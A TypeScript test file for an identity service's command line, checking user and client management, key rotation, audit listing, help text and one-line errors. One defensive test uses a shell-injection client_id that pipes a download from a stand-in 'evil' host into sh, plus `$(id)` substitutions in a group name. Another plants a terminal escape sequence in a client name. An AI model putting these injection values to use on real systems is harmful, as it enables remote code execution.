// The command line works beside a running service on the same database, prints JSON on request, and reports an error in one line.
import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCommand, runCommandProcess } from '../helpers/command-line.ts';
import { call, eventually, obtainTokens, userinfo, withoutLimits } from '../helpers/grants.ts';
import { startTestService, type TestService } from '../helpers/service.ts';
import { tokenRequest, UserAgent } from '../helpers/user-agent.ts';

let service: TestService;
beforeAll(async () => {
  service = await startTestService({ environment: withoutLimits });
  await service.createUser({ admin: true });
});
afterAll(() => service?.stop());

const password = 'correct horse battery staple';
const run = (args: string[], stdin?: string, environment: Record<string, string> = {}) =>
  runCommand(service, args, { ...(stdin !== undefined && { stdin }), environment });

/** Runs a command that must succeed, and reads its JSON. */
async function json<T = Record<string, unknown>>(args: string[], stdin?: string): Promise<T> {
  const { code, stdout, stderr } = await run([...args, '--json'], stdin);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(stdout).toMatch(/^[^\n]+\n$/);
  return JSON.parse(stdout) as T;
}

describe('users', () => {
  test('user create takes claims of every type, also strings that look like numbers; the user signs in at once, and is listed (decisions section 8)', async () => {
    const created = await json(
      [
        'user',
        'create',
        '--username',
        'alice',
        '--email',
        'alice@example.com',
        '--password-stdin',
        '--claim',
        'name=Alice Adams',
        '--claim',
        'email_verified=true',
        '--claim',
        'nickname=[x]',

        '--claim',
        'address={"country": "FR"}',
        '--claim',
        'phone_number_verified=false',
        '--claim',
        'given_name="A"',
        '--claim',
        'birthdate=1980',
        '--claim',
        'middle_name=true',
        '--claim',
        'website=https://42.example',
        '--group',
        'staff',
        '--group',
        'crew',
        '--admin',
      ],
      password,
    );
    expect(created).toMatchObject({
      username: 'alice',
      email: 'alice@example.com',
      email_verified: true,
      admin: true,
      groups: ['staff', 'crew'],
      claims: {
        name: 'Alice Adams',
        address: { country: 'FR' },
        phone_number_verified: false,
        given_name: '"A"',
        nickname: '[x]',
        birthdate: '1980',
        middle_name: 'true',
        website: 'https://42.example',
      },
    });
    expect((await new UserAgent(service).signIn({ username: 'alice', password })).url).toMatch(/\/account$/);
    const list = await json<Record<string, unknown>[]>(['user', 'list']);
    expect(list.find((user) => user['username'] === 'alice')).toEqual(created);
    expect((await run(['user', 'list'])).stdout).toMatch(/^alice +enabled +yes +alice@example\.com +[\w-]+$/m);
  });

  test('a resource is created, changed, shown, listed and deleted by its URI (protocols 1.1)', async () => {
    const uri = 'https://notes.example/v1';
    const scopes = ['--scope', 'notes.read=Read your notes', '--scope', 'notes.write={"en":"Write","de":"Schreiben"}'];
    const created = await json(['resource', 'create', uri, '--name', 'Notes', ...scopes, '--scope', 'notes.sync=']);
    expect(created).toMatchObject({
      resource: uri,
      clients: 'listed',
      scopes: expect.arrayContaining([
        { value: 'notes.read', description: { en: 'Read your notes' } },
        { value: 'notes.write', description: { en: 'Write', de: 'Schreiben' } },
        { value: 'notes.sync', description: {} },
      ]) as unknown,
    });
    const changed = await json([
      'resource',
      'change',
      `${uri}`,
      '--clients',
      'approved',
      '--access-token-lifetime',
      '60',
    ]);
    expect(changed).toEqual({ ...created, clients: 'approved', access_token_lifetime: 60 });
    expect(await json(['resource', 'show', uri])).toEqual(changed);
    expect(await json(['resource', 'list'])).toEqual([changed]);
    expect((await run(['resource', 'create', uri, '--name', 'Again'])).stderr).toContain('exists already');
    expect((await run(['resource', 'create', 'urn:x', '--name', 'X', '--scope', 'read'])).stderr).toContain(
      '--scope must be name=value',
    );
    expect((await run(['resource', 'delete', uri])).stdout).toBe(`Deleted the resource ${uri}.\n`);
    expect((await run(['resource', 'show', uri])).code).not.toBe(0);
  });

  test('a user who is disabled or gets a password by a command loses all tokens at once (security R54)', async () => {
    for (const [args, stdin] of [
      [['user', 'disable'], undefined],
      [['user', 'set-password', '--password-stdin'], 'another long password'],
    ] as const) {
      const user = await service.createUser();
      const { access_token } = await obtainTokens(service, await service.createClient(), user);
      expect(await json([...args, user.username], stdin)).toMatchObject({ sub: user.sub });
      expect(await userinfo(service.issuer, access_token)).toMatchObject({ status: 401 });
      if (stdin !== undefined) {
        const again = await new UserAgent(service).signIn({ username: user.username, password: stdin });
        expect(again.url).toMatch(/\/account$/);
      }
    }
  });

  test('a disabled user signs in again after user enable (decisions section 8)', async () => {
    const user = await service.createUser();
    await json(['user', 'disable', user.username]);
    expect((await new UserAgent(service).signIn(user)).status).toBe(400);
    expect(await json(['user', 'enable', user.username])).toMatchObject({ sub: user.sub, status: 'enabled' });
    expect((await new UserAgent(service).signIn(user)).url).toMatch(/\/account$/);
  });

  test("a user's password is in no command-line argument, no output and no database row (security R99)", async () => {
    const secret = 'a canary of a password';
    expect((await run(['user', 'create', '--username', 'dora', '--password', secret])).code).toBe(1);
    expect((await run(['user', 'create', '--username', 'dora'], secret)).code).toBe(1);
    const { stdout, stderr } = await run(['user', 'create', '--username', 'dora', '--password-stdin'], `${secret}\n`);
    expect(stdout + stderr).not.toContain(secret);
    expect((await new UserAgent(service).signIn({ username: 'dora', password: secret })).url).toMatch(/\/account$/);
    const rows = await service.database.sql(
      'SELECT u::text, e::text FROM users u LEFT JOIN audit_events e ON e.sub = u.sub',
    );
    expect(JSON.stringify(rows)).not.toContain(secret);
  });
});

describe('clients', () => {
  test('client create makes an enabled client, whose credentials work at once (decisions section 8)', async () => {
    const web = await json([
      'client',
      'create',
      '--name',
      'Harbour',
      '--redirect-uri',
      'https://rp.example.com/callback',
      '--first-party',
      '--scope',
      'openid email',
      '--backchannel-logout-uri',
      'https://rp.example.com/logout/notify',
    ]);
    expect(web).toMatchObject({
      status: 'enabled',
      client_name: 'Harbour',
      first_party: true,
      scope: 'openid email',
      backchannel_logout_uri: 'https://rp.example.com/logout/notify',
      grant_types: ['authorization_code', 'refresh_token'],
    });
    const tool = await json<Record<string, string>>([
      'client',
      'create',
      '--name',
      'Tool',
      '--grant-type',
      'client_credentials',
      '--scope',
      'admin',
    ]);
    const basic = `Basic ${Buffer.from(`${tool['client_id']}:${tool['client_secret']}`).toString('base64')}`;
    const { body } = await tokenRequest(service.issuer, { basic }, { grant_type: 'client_credentials' });
    expect(await call(`${service.issuer}/admin/api/users`, { token: body['access_token'] as string })).toMatchObject({
      status: 200,
    });
    const shown = await run(['client', 'create', '--name', 'Shown', '--grant-type', 'client_credentials']);
    expect(shown.stdout).toMatch(/client_id +\S+\n +client_secret +\S+\n/);
  });

  test('the command line lists clients by status, shows and disables them, and prints a client before it approves it (decisions section 2)', async () => {
    const { body } = await call(`${service.issuer}/register`, {
      method: 'POST',
      body: { redirect_uris: ['https://rp.example.com/callback'], client_name: 'Waiting' },
    });
    const id = body['client_id'] as string;
    const waiting = await json<Record<string, unknown>[]>(['client', 'list', '--status', 'disabled']);
    expect(waiting.some((client) => client['client_id'] === id)).toBe(true);
    expect(await json(['client', 'show', id])).toMatchObject({ client_id: id, status: 'disabled' });
    const approved = await run(['client', 'approve', id]);
    expect(approved.stdout).toMatch(/client_name +Waiting/);
    expect(approved.stdout).toContain('https://rp.example.com/callback');
    expect(await json(['client', 'show', id])).toMatchObject({ status: 'enabled', approved_by: 'administrator' });
    expect(await json(['client', 'disable', id])).toMatchObject({ status: 'disabled' });
    expect((await run(['client', 'show', id])).stdout).toMatch(/status +disabled/);
  });

  test("client list prints no control character of a client's name (security R93)", async () => {
    await service.createClient();
    await service.database.sql(
      `UPDATE clients SET metadata = metadata || '{"client_name": "a\\u001b[2Jb\\nc"}' WHERE client_id = (SELECT max(client_id) FROM clients)`,
    );
    for (const args of [
      ['client', 'list'],
      ['client', 'list', '--json'],
    ])
      expect((await run(args)).stdout).not.toContain('\u001b');
  });
});

describe('keys, tokens, audit and schema', () => {
  test('the command line lists and rotates keys while the service runs (decisions section 8)', async () => {
    const before = await json<{ kid: string }[]>(['keys', 'list']);
    const after = await json<{ kid: string; state: string }[]>(['keys', 'rotate']);
    expect(after).toHaveLength(before.length + 4);
    expect(after.filter((key) => key.state === 'waiting')).toHaveLength(4);
    expect((await run(['keys', 'list'])).stdout).toMatch(/^KID +ALG +STATE/);
    await eventually(
      async () => (await call(`${service.issuer}/jwks`)).body['keys'] as unknown[],
      (keys) => keys.length === after.length,
    );
  });

  test('a registration token from the command line enables a registration at once (decisions section 8)', async () => {
    const created = await json<Record<string, string>>(['registration-token', 'create', '--lifetime', '60']);
    expect(created['initial_access_token']).toMatch(/^ghia_/);
    const { body } = await call(`${service.issuer}/register`, {
      method: 'POST',
      token: created['initial_access_token']!,
      body: { redirect_uris: ['https://rp.example.com/callback'] },
    });
    expect(body['status']).toBe('enabled');
  });

  test('audit list names the command line as the actor, and continues with --before (decisions section 7)', async () => {
    const client = await service.createClient();
    await json(['client', 'disable', client.clientId]);
    const events = await json<Record<string, unknown>[]>(['audit', 'list', '--client', client.clientId]);
    expect(events[0]).toMatchObject({ type: 'client.disabled', actor: 'command line', client_id: client.clientId });
    expect(await json(['audit', 'list', '--limit', '1'])).toHaveLength(1);
    const { stdout } = await run(['audit', 'list', '--limit', '2']);
    const [head, first, second, , hint] = stdout.trim().split('\n');
    expect([head, first]).toEqual([expect.stringMatching(/^ID +AT +TYPE/), expect.any(String)]);
    const last = second!.split(' ')[0]!;
    expect(hint).toBe(`There may be more events: add --before ${last}`);
    const [whole, below] = [
      await json<{ id: string }[]>(['audit', 'list', '--limit', '5']),
      await json(['audit', 'list', '--limit', '3', '--before', last]),
    ];
    expect(below).toEqual(whole.slice(2));
    expect(await json(['audit', 'list', '--since', '2099-01-01', '--outcome', 'failure'])).toEqual([]);
  });

  test('two concurrent migrate commands report that there is nothing to do (decisions section 8)', async () => {
    const both = await Promise.all([json(['migrate']), json(['migrate'])]);
    expect(both).toEqual([{ migrations: [] }, { migrations: [] }]);
  });

  test('the help of a command or group, and the version, are printed without a database (pages, commands)', async () => {
    const nowhere = { DATABASE_URL: 'postgresql://nobody@127.0.0.1:1/none' };
    const says = async (...words: string[]) => {
      const { code, stdout, stderr } = await run(words, undefined, nowhere);
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
      return stdout;
    };
    for (const words of [['user'], ['user', '--help'], ['help', 'user']]) {
      const help = await says(...words);
      expect(help).toMatch(/^Usage: bin\/gatehouse user COMMAND/);
      expect(help).toMatch(/^ {2}user create {2,}\S/m);
      expect(help).not.toMatch(/^ *(gatehouse )?client /m);
    }
    const help = await says('user', 'create', '--help');
    expect(help).toMatch(/^Usage: bin\/gatehouse user create --username USERNAME .*--password-stdin \[--json\]\n/);
    expect(help).toMatch(/^ {2}--claim name=value …$/m);
    expect(await says('help', 'user', 'create')).toBe(help);
    expect(await says('--version')).toMatch(/^gatehouse \d+\.\d+\.\d+\n$/);
  });

  test('the help names every command, each in one line without its options (decisions section 8)', async () => {
    const { code, stdout } = await run(['help']);
    expect(code).toBe(0);
    const lines = stdout.split('\n').slice(2, -3);
    expect(lines.filter((line) => !/^ {2}[a-z].{0,198}$/.test(line) || line.includes(' --'))).toEqual([]);
    for (const command of [
      'user create',
      'user list',
      'user disable',
      'user enable',
      'user set-password',
      'client list',
      'client show',
      'client approve',
      'client disable',
      'client create',
      'registration-token create',
      'keys list',
      'keys rotate',
      'audit list',
      'migrate',
    ])
      expect(stdout).toContain(command);
  });

  test('the help of each command explains each of its options in a sentence (pages, commands)', async () => {
    const { stdout } = await run(['help']);
    const names = [...stdout.matchAll(/^ {2}([a-z-]+(?: [a-z\d-]+)?)(?= |$)/gm)].map((match) => match[1]!);
    expect(names.length).toBeGreaterThan(40);
    for (const name of names) {
      const help = (await run(['help', ...name.split(' ')])).stdout;
      const [usage = '', ...lines] = help.split('\n');
      for (const [option] of usage.matchAll(/--[a-z\d-]+/g)) {
        const at = lines.findIndex((line) => line.split(' ')[2] === option);
        expect(at, `${name} ${option}`).toBeGreaterThan(-1);
        expect(lines[at + 1], `${name} ${option}`).toMatch(/^ {6}[A-Z].*\.$/);
      }
    }
  });
});

test('--env-file after the command, or in two words, is refused with the place where it stands (pages, commands)', async () => {
  for (const words of [
    ['doctor', '--env-file=.env'],
    ['user', 'list', '--env-file=.env'],
    ['--env-file', '.env', 'doctor'],
  ]) {
    const { code, stderr } = await run(words);
    expect([code, stderr]).toEqual([1, expect.stringContaining('bin/gatehouse --env-file=FILE COMMAND')]);
  }
});

test('mail test names the user who is no administrator (pages, commands)', async () => {
  await service.createUser({ username: 'no-admin', email: 'no-admin@example.com' });
  expect(await run(['mail', 'test', '--user', 'no-admin'])).toMatchObject({
    code: 1,
    stderr: 'The user no-admin is no administrator: test emails go to administrators only.\n',
  });
});

test('client access names each group that does not exist, and how it is created (pages, commands)', async () => {
  const { clientId } = await service.createClient();
  const access = () => run(['client', 'access', clientId, '--access', 'groups', '--group', 'staff-of-the-wiki']);
  const unknown = await access();
  expect(unknown.code).toBe(0);
  expect(unknown.stdout).toMatch(
    /^There is no group staff-of-the-wiki yet: bin\/gatehouse group create staff-of-the-wiki$/m,
  );
  await json(['group', 'create', 'staff-of-the-wiki']);
  expect((await access()).stdout).not.toContain('There is no group');
});

test('why names the user, what changes the refusal, and the command that checks again (pages, why)', async () => {
  const user = await service.createUser({ username: 'outsider' });
  const client = await service.createClient();
  await json(['group', 'create', 'insiders']);
  await json(['client', 'access', client.clientId, '--access', 'groups', '--group', 'insiders']);
  const refused = await new UserAgent(service).authorize(client, user);
  expect(refused.reference).toMatch(/^[0-9a-f]{8}$/);
  const { stdout } = await run(['why', refused.reference!]);
  expect(stdout).toMatch(/^username +outsider$/m);
  expect(stdout).toMatch(/^The user is in none of the groups .*group add or client access changes that\.$/m);
  expect(stdout).toContain(`bin/gatehouse user access outsider ${client.clientId}\n`);
});

test('a command to copy keeps each value one word of the shell, whatever characters it has (pages, commands)', async () => {
  const words = (output: string, command: string) => {
    const [, rest] = new RegExp(`gatehouse ${command} (.*)`).exec(output)!;
    return execFileSync('sh', ['-c', `printf '%s\\n' ${rest}`], { encoding: 'utf8' })
      .trimEnd()
      .split('\n');
  };
  // an address that any site can give as client_id has as many characters as this one
  const clientId = `a;curl$IFS-s$IFS$9'evil'.example|sh`;
  const group = `the "staff" & 'friends'; $(id) \`id\``;
  const redirectUri = 'https://app.example.test/callback';
  await json(['client', 'create', '--name', 'Odd', '--client-id', clientId, '--redirect-uri', redirectUri]);
  const user = await service.createUser({ username: 'outsider.2' });
  const access = await run(['client', 'access', clientId, '--access', 'groups', '--group', group]);
  expect(words(access.stdout, 'group create')).toEqual([group]);
  expect(words((await run(['group', 'create', group])).stdout, 'group add')).toEqual([group, 'USER']);
  const client = { ...(await service.createClient()), clientId, redirectUri };
  const refused = await new UserAgent(service).authorize(client, user);
  expect(words((await run(['why', refused.reference!])).stdout, 'user access')).toEqual(['outsider.2', clientId]);
});

describe('operations of the admin routes as commands (pages, commands)', () => {
  test('the command line shows, searches and deletes users (decisions section 8)', async () => {
    const user = await service.createUser({ username: 'quentin', claims: { name: 'Quentin Sands' } });
    expect(await json(['user', 'show', 'quentin'])).toMatchObject({ sub: user.sub, claims: { name: 'Quentin Sands' } });
    expect((await run(['user', 'show', 'Quentin'])).stdout).toMatch(/^username +quentin$/m);
    expect(await json(['user', 'list', '--search', 'sands quent'])).toMatchObject([{ sub: user.sub }]);
    expect(await json(['user', 'list', '--limit', '1'])).toHaveLength(1);
    expect(await json(['user', 'delete', 'quentin'])).toEqual({ sub: user.sub });
    expect((await run(['user', 'show', 'quentin'])).stderr).toBe('There is no user quentin.\n');
  });

  test('the command line deletes clients, and lists as many as --limit says (decisions section 8)', async () => {
    const { clientId } = await service.createClient();
    await service.createClient();
    expect(await json(['client', 'list', '--limit', '2'])).toHaveLength(2);
    expect(await json(['client', 'delete', clientId])).toEqual({ client_id: clientId });
    expect((await run(['client', 'delete', clientId])).code).toBe(1);
  });

  test.each([
    [['user', 'list', '--serch', 'x'], /^Unknown option: --serch\. The most similar options are --search, /],
    [['user', 'list', '--limit', '0'], '--limit must be a whole number from 1 to 10000.'],
    [['keys', 'list', '--colour'], 'Unknown option: --colour. This command has only --json and --help.'],
    [['user', 'shwo', 'x'], /^Unknown command: user shwo\. The most similar commands are user show, /],
    [['user', 'list', '--admin=yes'], 'The option --admin takes no value.'],
  ])('the error for %j names the valid options, values or commands (pages, commands)', async (words, sentence) => {
    const { code, stdout, stderr } = await run(words);
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    if (typeof sentence === 'string') expect(stderr).toBe(`${sentence}\n`);
    else expect(stderr).toMatch(sentence);
  });
});

describe('an error', () => {
  test.each<[string, string[], string?, Record<string, string>?]>([
    ['an unknown command', ['user', 'explode']],
    ['an unknown option', ['user', 'list', '--colour']],
    ['a missing argument', ['client', 'show']],
    ['one argument too many', ['client', 'show', 'a', 'b']],
    ['an option without its value', ['client', 'create', '--name']],
    ['no user name', ['user', 'create', '--password-stdin'], password],
    ['a short password', ['user', 'create', '--username', 'x', '--password-stdin'], 'short'],
    ['no password', ['user', 'create', '--username', 'x', '--password-stdin'], ''],
    ['a claim without a value', ['user', 'create', '--username', 'x', '--claim', 'name', '--password-stdin'], password],
    ['an unknown claim', ['user', 'create', '--username', 'x', '--claim', 'root=true', '--password-stdin'], password],
    [
      'a claim of another type',
      ['user', 'create', '--username', 'x', '--claim', 'phone_number_verified=7', '--password-stdin'],
      password,
    ],
    ['an unknown user', ['user', 'disable', 'nobody']],
    ['an unknown user to enable', ['user', 'enable', 'nobody']],
    ['a password for an unknown user', ['user', 'set-password', 'nobody', '--password-stdin'], password],
    ['an unknown client', ['client', 'approve', 'nobody']],
    ['a client_id that no client can have', ['client', 'show', 'a\u00e9']],
    [
      'a redirect URI that is not allowed',
      ['client', 'create', '--name', 'x', '--redirect-uri', 'http://rp.example.com/'],
    ],
    ['an unknown status', ['client', 'list', '--status', 'half']],
    ['an invalid limit', ['audit', 'list', '--limit', 'many']],
    ['an invalid event', ['audit', 'list', '--before', 'yesterday']],
    ['an invalid time', ['audit', 'list', '--since', 'yesterday']],
    ['an invalid type', ['audit', 'list', '--type', 'nope']],
    ['an invalid outcome', ['audit', 'list', '--outcome', 'maybe']],
    ['an invalid lifetime', ['registration-token', 'create', '--lifetime', '0']],
    ['a lifetime beyond the last date', ['registration-token', 'create', '--lifetime', '9007199254740991']],
    ['a wrong setting', ['user', 'list'], undefined, { LOG_LEVEL: 'loud' }],
    ['a missing key', ['user', 'list'], undefined, { SECRET_KEY: '' }],
    [
      'another key',
      ['keys', 'list'],
      undefined,
      { SECRET_KEY: Buffer.from(crypto.getRandomValues(new Uint8Array(32))).toString('base64url') },
    ],
    ['an unreachable database', ['user', 'list'], undefined, { DATABASE_URL: 'postgresql://nobody@127.0.0.1:1/none' }],
  ])(
    'the error for %s is one line with exit code 1, also with --json (decisions section 8)',
    async (_what, args, stdin, environment) => {
      for (const words of [args, [...args, '--json']]) {
        const { code, stdout, stderr } = await run(words, stdin, environment);
        expect(code).toBe(1);
        expect(stdout).toBe('');
        expect(stderr).toMatch(/^[^\n]{10,400}\n$/);
        expect(stderr).not.toMatch(/\bat .*\.ts:\d|node:internal/);
      }
    },
  );

  test.each([
    [['client', 'create', '--name', 'x', '--grant-type', 'foo'], 'grant_types.0 contains an unsupported grant type'],
    [
      ['user', 'create', '--username', 'x', '--claim', 'birthdate=80', '--password-stdin'],
      'claims.birthdate must be YYYY',
    ],
    [['client', 'show', 'nobody'], 'There is no client nobody.'],
  ])('the error for %j uses the member names of the API (decisions section 7)', async (args, begin) => {
    expect((await run(args, password)).stderr.slice(0, begin.length)).toBe(begin);
  });

  test('the error for a user name that is taken is one line (security A123)', async () => {
    const user = await service.createUser();
    const { code, stderr } = await run(
      ['user', 'create', '--username', user.username.toUpperCase(), '--password-stdin'],
      password,
    );
    expect(code).toBe(1);
    expect(stderr).toBe('username is already in use by another user or a client.\n');
  });
});

describe('as a process', () => {
  test('a command reads standard input, prints one line of JSON, and exits (decisions section 8)', async () => {
    const args = ['user', 'create', '--username', 'process', '--password-stdin', '--json'];
    const { code, stdout, stderr } = await runCommandProcess(service, args, { stdin: `${password}\n` });
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout).toMatch(/^\{[^\n]+\}\n$/);
    expect((await new UserAgent(service).signIn({ username: 'process', password })).url).toMatch(/\/account$/);
    expect((await runCommandProcess(service, ['user', 'list'])).stdout).toMatch(/^process +enabled/m);
    // gatehouse without arguments starts the service; npm run idp without arguments prints the help
    const help = { code: 0, stdout: expect.stringMatching(/^Usage: /) as string };
    expect(await runCommandProcess(service, [], { environment: { npm_lifecycle_event: 'idp' } })).toMatchObject(help);
    expect(await runCommandProcess(service, ['--help'])).toMatchObject(help);
  });

  test.each<[string, string[], string?, Record<string, string>?]>([
    ['an unknown command', ['user', 'explode']],
    ['an unknown option', ['user', 'list', '--colour']],
    ['a short password', ['user', 'create', '--username', 'x', '--password-stdin'], 'short'],
    ['an unknown client', ['client', 'approve', 'nobody']],
    ['a wrong setting', ['user', 'list'], undefined, { LOG_LEVEL: 'loud' }],
    ['a missing key', ['user', 'list'], undefined, { SECRET_KEY: '' }],
    ['an unreachable database', ['user', 'list'], undefined, { DATABASE_URL: 'postgresql://nobody@127.0.0.1:1/none' }],
  ])('the error for %s is one line with exit code 1 (decisions section 8)', async (_what, args, stdin, environment) => {
    const { code, stdout, stderr } = await runCommandProcess(service, args, {
      ...(stdin !== undefined && { stdin }),
      ...(environment && { environment }),
    });
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toMatch(/^[^\n]{10,400}\n$/);
  });
});
